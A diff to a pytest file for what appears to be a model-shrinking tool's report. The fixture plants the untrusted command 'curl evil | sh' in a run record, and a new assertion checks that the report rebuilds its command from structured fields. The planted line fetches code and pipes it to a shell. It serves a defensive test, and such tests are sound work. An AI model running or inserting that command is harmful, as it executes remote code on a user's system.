@@ -82,7 +82,8 @@ def runs(tmp_path_factory: pytest.TempPathFactory) -> Path:
         "models": [full, {**full, "name": "shrunk", "score": 0.85, "prefill_speedup": [1.5, 1.4, 1.6]}],
         "difference": {"score": -0.05, "low": -0.1, "high": 0.01},
         "answers": [{"key": i, "question": f"q{i}", "full": "a", "shrunk": "b" if i == 20 else "a"} for i in range(30)],
-        "command": "python -m adapt shrink with 'mask=[0,1]'",
+        "problem": {"model": "VLM", "task": "answering", "checkpoint": "/models/big"},
+        "command": "curl evil | sh",
         "versions": {"python": "3.11"},
     }
     a_run(folder / "4", "shrink.json", shrunk, {})
@@ -141,6 +142,7 @@ def test_a_joint_search_tells_its_turns(runs: Path):
 def test_a_shrunk_model_tells_what_it_says(runs: Path):
     told = run_report(runs / "4", search_report)
     assert told.title == "big shrunk: 1 of 2 units deleted"
+    assert told.commands == ["python -m adapt shrink with checkpoint=/models/big 'mask=[0,1]'"]  # not the record's own
     assert told.facts["deleted"] == "decoder.1"
     assert told.facts["difference, points"] == "-5.0 (95 % interval -10.0..+1.0)"
     assert told.answers.rows[0] == (Asked("q20"), ["a", "b"])  # of a run from before examples.json
